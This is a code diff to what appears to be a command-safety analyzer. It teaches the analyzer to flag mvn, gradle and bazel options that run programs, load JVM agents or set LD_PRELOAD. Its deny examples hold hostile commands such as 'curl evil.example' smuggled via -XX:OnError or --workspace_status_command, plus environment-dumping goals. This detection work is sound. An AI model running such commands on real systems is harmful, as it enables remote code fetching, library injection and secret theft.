@@ -2594,8 +2594,14 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       examples: { deny: ['go env -w GOFLAGS=-toolexec=/tmp/x', 'go env -w CC=/tmp/cc', 'go env -w GOPROXY=https://evil.example', 'go env -w GO111MODULE=on CGO_CFLAGS=-fplugin=/tmp/p.so', 'go env -w "$KV"'], pass: ['go env -w GOPRIVATE=github.com/myorg/*', 'go env -w GO111MODULE=on', 'go env GOPATH', 'go env -u GOFLAGS'] },
     },
   ),
-  { names: ['mvn', 'mvnw'], summary: 'mvn exec:exec -Dexec.executable runs that program; help:system prints the environment', analyze: mvn, examples: { deny: ['mvn help:system', 'mvn -q org.apache.maven.plugins:maven-help-plugin:3.4.0:system', 'mvn exec:exec -Dexec.executable=curl -Dexec.args=evil.example', "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=curl '-Dexec.args=evil.example'"], pass: ['mvn -q package', 'mvn help:effective-pom', 'mvn exec:exec -Dexec.executable=java -Dexec.args=-version', 'mvn exec:java -Dexec.mainClass=app.Main'] } },
-  { names: ['bazel', 'bazelisk'], summary: 'bazel run/test --run_under runs its command before the target', analyze: bazel, examples: { deny: ["bazel run --run_under='curl evil.example' //:x", "bazel test --run_under 'wget evil.example' //..."], pass: ['bazel build //...', 'bazel run --run_under=//tools:wrapper //:x', 'bazel test //...'] } },
+  { names: ['mvn', 'mvnw'], summary: 'mvn exec:exec -Dexec.executable runs that program; -DargLine and the like are options of a JVM it starts; help:system prints the environment', analyze: mvn, examples: { deny: ["mvn test '-DargLine=-XX:OnError=curl evil.example'", "mvn spring-boot:run -Dspring-boot.run.jvmArguments=-javaagent:/tmp/a.jar", 'mvn help:system', 'mvn -q org.apache.maven.plugins:maven-help-plugin:3.4.0:system', 'mvn exec:exec -Dexec.executable=curl -Dexec.args=evil.example', "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=curl '-Dexec.args=evil.example'"], pass: ['mvn -q package', 'mvn help:effective-pom', 'mvn exec:exec -Dexec.executable=java -Dexec.args=-version', 'mvn exec:java -Dexec.mainClass=app.Main', 'mvn test -DargLine=-Xmx1g', "mvn spring-boot:run -Dspring-boot.run.jvmArguments='-Xmx512m -Dspring.profiles.active=dev'"] } },
+  {
+    names: ['gradle', 'gradlew'],
+    summary: 'gradle: -Dorg.gradle.jvmargs (or -P) are the options of the JVM the build runs in',
+    analyze: (call) => ({ runs: jvmProperties(call, ['org.gradle.jvmargs'], 'DP') }),
+    examples: { deny: ["gradle build -Dorg.gradle.jvmargs='-XX:OnError=curl evil.example'", "./gradlew build '-Porg.gradle.jvmargs=-javaagent:/tmp/a.jar'"], pass: ['gradle build -Dorg.gradle.jvmargs=-Xmx2g', './gradlew test -Pversion=1.2', 'gradle build'] },
+  },
+  { names: ['bazel', 'bazelisk'], summary: 'bazel: --run_under, --workspace_status_command and --credential_helper run commands; --action_env and the like set variables for what it runs', analyze: bazel, examples: { deny: ["bazel run --run_under='curl evil.example' //:x", "bazel test --run_under 'wget evil.example' //...", "bazel build --workspace_status_command='curl evil.example' //...", 'bazel build --action_env=LD_PRELOAD=/tmp/x.so //...', "bazel build --credential_helper='*.example.com=curl' //..."], pass: ['bazel build //...', 'bazel run --run_under=//tools:wrapper //:x', 'bazel test //...', 'bazel build --workspace_status_command=tools/status.sh //...', 'bazel test --test_env=FOO=1 --action_env=PATH //...', 'bazel build --credential_helper=%workspace%/tools/cred.sh //...'] } },
   {
     names: ['gdb'],
     summary: 'gdb: --args CMD runs CMD; -ex/--eval-command and commands on stdin are debugger commands (`!`, `shell`, `|`, `run PROGRAM`, logging files)',
@@ -3208,37 +3214,72 @@ function goBuild(args: readonly Word[]): NonNullable<Answer['builds']>[number] |
   return to ? { from: files, stdin: false, to, trees } : undefined;
 }
 
-/** mvn exec:exec runs -Dexec.executable with -Dexec.args; other plugins run what the POM says (out of scope). */
-function mvn(call: Call): Partial<Answer> {
+/**
+ * A `-DNAME=VALUE` property on a build tool's line (`-D NAME=VALUE` too, and `-P` where `letters` says so): its word
+ * and value (undefined when computed), or undefined when the line gives none.
+ */
+function buildProperty(call: Call, name: string, letters = 'D'): { word: Word; text: string | undefined } | undefined {
   const args = call.args;
   const vals = args.map((a) => value(a));
+  const flag = new RegExp(`^-[${letters}]`);
+  for (let i = 0; i < args.length; i++) {
+    const v = vals[i];
+    if (v === undefined) {
+      if (args[i]!.text.includes(name)) return { word: args[i]!, text: undefined };
+      continue;
+    }
+    // PowerShell hands `-Dexec.executable=x` over as `-Dexec` `.executable=x`: one property still.
+    const split = new RegExp(`^-[${letters}][\\w-]+$`).test(v) && vals[i + 1]?.startsWith('.');
+    const bare = v.length === 2 && flag.test(v);
+    const w = split ? `${v.slice(2)}${vals[i + 1]}` : flag.test(v) ? (bare ? vals[i + 1] : v.slice(2)) : undefined;
+    const word = bare || split ? args[i + 1] : args[i];
+    if (w?.startsWith(`${name}=`) && word) return { word, text: w.slice(name.length + 1) };
+  }
+  return undefined;
+}
+
+/**
+ * Properties that hand a JVM the build starts its options (`mvn -DargLine=…` for the tests' JVM, gradle's
+ * `-Dorg.gradle.jvmargs=…` for its daemon): read as JAVA_TOOL_OPTIONS is, for an agent, -XX:OnError text and a
+ * debugger (jvmOption). Computed options may be any of them.
+ */
+function jvmProperties(call: Call, names: readonly string[], letters = 'D'): Run[] {
+  return names.flatMap((name): Run[] => {
+    const p = buildProperty(call, name, letters);
+    if (p === undefined) return [];
+    if (p.text === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word: p.word, why: `${call.name} hands the JVM it starts options computed at run time (${name}), which may load code` }];
+    return [{ kind: 'text', dialect: 'bash', text: `JAVA_TOOL_OPTIONS=${shellQuote(p.text)} true`, word: p.word, via: `${call.name} -D${name}` }];
+  });
+}
+
+/** The JVM options mvn's plugins hand the JVMs they fork: the tests' (surefire, failsafe), Spring Boot's application's. */
+const MVN_JVM_PROPERTIES = ['argLine', 'spring-boot.run.jvmArguments', 'jvmArguments'];
+
+/**
+ * mvn exec:exec runs -Dexec.executable with -Dexec.args; the properties of MVN_JVM_PROPERTIES are JVM options; other
+ * plugins run what the POM says (out of scope).
+ */
+function mvn(call: Call): Partial<Answer> {
+  const vals = call.args.map((a) => value(a));
   // The help plugin's system goal prints the system properties and every environment variable (`Environment Variables`).
   const help = vals.find((v) => v !== undefined && /^(?:(?:org\.apache\.maven\.plugins:)?maven-help-plugin(?::[\w.-]+)?|help):system$/.test(v));
   if (help) return { dumps: `mvn ${help} prints every environment variable with its value` };
-  if (!vals.some((v) => v !== undefined && /^(?:org\.codehaus\.mojo:)?exec(?:-maven-plugin)?(?::[\w.-]+)?:exec(?:@\S+)?$/.test(v))) return {};
-  const prop = (name: string): { word: Word; text: string | undefined } | undefined => {
-    for (let i = 0; i < args.length; i++) {
-      const v = vals[i];
-      if (v === undefined) {
-        if (args[i]!.text.includes(name)) return { word: args[i]!, text: undefined };
-        continue;
-      }
-      // PowerShell hands `-Dexec.executable=x` over as `-Dexec` `.executable=x`: one property still.
-      const split = /^-D[\w-]+$/.test(v) && vals[i + 1]?.startsWith('.');
-      const w = split ? `${v.slice(2)}${vals[i + 1]}` : v.startsWith('-D') ? (v === '-D' ? vals[i + 1] : v.slice(2)) : undefined;
-      const word = v === '-D' || split ? args[i + 1] : args[i];
-      if (w?.startsWith(`${name}=`) && word) return { word, text: w.slice(name.length + 1) };
-    }
-    return undefined;
-  };
+  const jvm = jvmProperties(call, MVN_JVM_PROPERTIES);
+  if (!vals.some((v) => v !== undefined && /^(?:org\.codehaus\.mojo:)?exec(?:-maven-plugin)?(?::[\w.-]+)?:exec(?:@\S+)?$/.test(v))) return { runs: jvm };
+  const prop = (name: string) => buildProperty(call, name);
   const exe = prop('exec.executable');
-  if (!exe) return {};
-  if (exe.text === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: exe.word, why: 'mvn exec:exec runs a computed executable' }] };
+  if (!exe) return { runs: jvm };
+  if (exe.text === undefined) return { runs: [...jvm, { kind: 'opaque', rule: 'dynamic-command', word: exe.word, why: 'mvn exec:exec runs a computed executable' }] };
   const extra = prop('exec.args');
-  return { runs: [programRun(attached(exe.word, `${exe.text} ${extra?.text ?? ''}`.trim()), 'mvn exec:exec')] };
+  return { runs: [...jvm, programRun(attached(exe.word, `${exe.text} ${extra?.text ?? ''}`.trim()), 'mvn exec:exec')] };
 }
 
-/** bazel run/test --run_under=PREFIX runs PREFIX (a command, unless it names a target) before the binary. */
+/**
+ * bazel's options that run a program: `--run_under=PREFIX` (run/test; a command unless it names a target) before the
+ * binary, `--workspace_status_command` at the start of every build, `--credential_helper=[PATTERN=]PROGRAM` for each
+ * fetch; and the variables `--action_env`, `--host_action_env`, `--test_env` and `--repo_env` give what it runs
+ * (`--action_env=LD_PRELOAD=…`), set as `env` sets them. The same whether on the line or in a .bazelrc it wrote.
+ */
 function bazel(call: Call): Partial<Answer> {
   const runs: Run[] = [];
   const args = call.args;
@@ -3246,12 +3287,20 @@ function bazel(call: Call): Partial<Answer> {
     const v = value(args[i]);
     if (v === '--') break;
     if (v === undefined) continue;
-    const m = /^--(?:run_under|test_wrapper|script_path)(?:=([\s\S]*))?$/.exec(v);
+    const m = /^--(run_under|test_wrapper|script_path|workspace_status_command|credential_helper|action_env|host_action_env|test_env|repo_env)(?:=([\s\S]*))?$/.exec(v);
     if (!m) continue;
-    const w = m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i];
+    const w = m[2] !== undefined ? attached(args[i]!, m[2]) : args[++i];
     if (!w) continue;
-    if (v.startsWith('--script_path')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'bazel run --script_path writes a script that runs the target' });
-    else if (!/^(?:\/\/|@|:)/.test(value(w) ?? '')) runs.push(programRun(w, 'bazel --run_under'));
+    const given = value(w);
+    if (m[1] === 'script_path') runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'bazel run --script_path writes a script that runs the target' });
+    else if (/_env$/.test(m[1]!)) {
+      // `NAME=VALUE` sets it; a bare NAME passes the one bazel was started with on.
+      const eq = given?.indexOf('=') ?? -1;
+      if (given === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: `bazel --${m[1]} sets a variable computed at run time for what it runs` });
+      else if (eq > 0) runs.push({ kind: 'assign', name: given.slice(0, eq), value: attached(w, given.slice(eq + 1)) });
+    } else if (m[1] === 'workspace_status_command') runs.push({ kind: 'script', dialect: 'bash', words: [w], via: 'bazel --workspace_status_command' });
+    else if (m[1] === 'credential_helper') runs.push(programRun(given === undefined ? w : attached(w, given.replace(/^[^=/]*=/, '')), 'bazel --credential_helper'));
+    else if (!/^(?:\/\/|@|:)/.test(given ?? '')) runs.push(programRun(w, 'bazel --run_under'));
   }
   return { runs };
 }
